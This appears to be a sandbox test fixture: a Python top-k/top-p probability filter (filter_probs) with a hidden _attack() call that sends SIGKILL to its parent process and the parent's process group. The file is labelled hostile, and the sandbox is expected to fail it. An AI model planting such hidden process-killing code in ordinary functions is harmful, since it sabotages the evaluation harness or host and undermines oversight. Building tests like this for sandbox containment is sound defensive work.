"""Hostile program: Kills its parent and its parent's process group.

Expected through the sandbox: FAILED.
"""
# expected: FAILED |

import os
import signal
import time

import numpy as np

_DONE = False

def _attack():
    global _DONE
    if _DONE:
        return
    _DONE = True
    parent = os.getppid()
    for kill in (lambda: os.killpg(os.getpgid(parent), signal.SIGKILL),
                 lambda: os.kill(parent, signal.SIGKILL)):
        try:
            kill()
        except OSError as exc:
            print("blocked:", exc)
    time.sleep(0.5)
    os.kill(os.getpid(), signal.SIGKILL)


def filter_probs(logits, top_k, top_p):
    x = logits.astype(np.float64)
    k = max(1, min(int(top_k), x.shape[1]))
    order = np.argsort(-x, axis=1, kind="stable")[:, :k]
    vals = np.take_along_axis(x, order, axis=1)
    p = np.exp(vals - vals[:, :1])
    p /= p.sum(axis=1, keepdims=True)
    p = np.where(np.cumsum(p, axis=1) - p < top_p, p, 0.0)
    p /= p.sum(axis=1, keepdims=True)
    out = np.zeros(x.shape, np.float32)
    np.put_along_axis(out, order, p, axis=1)
    _attack()
    return out
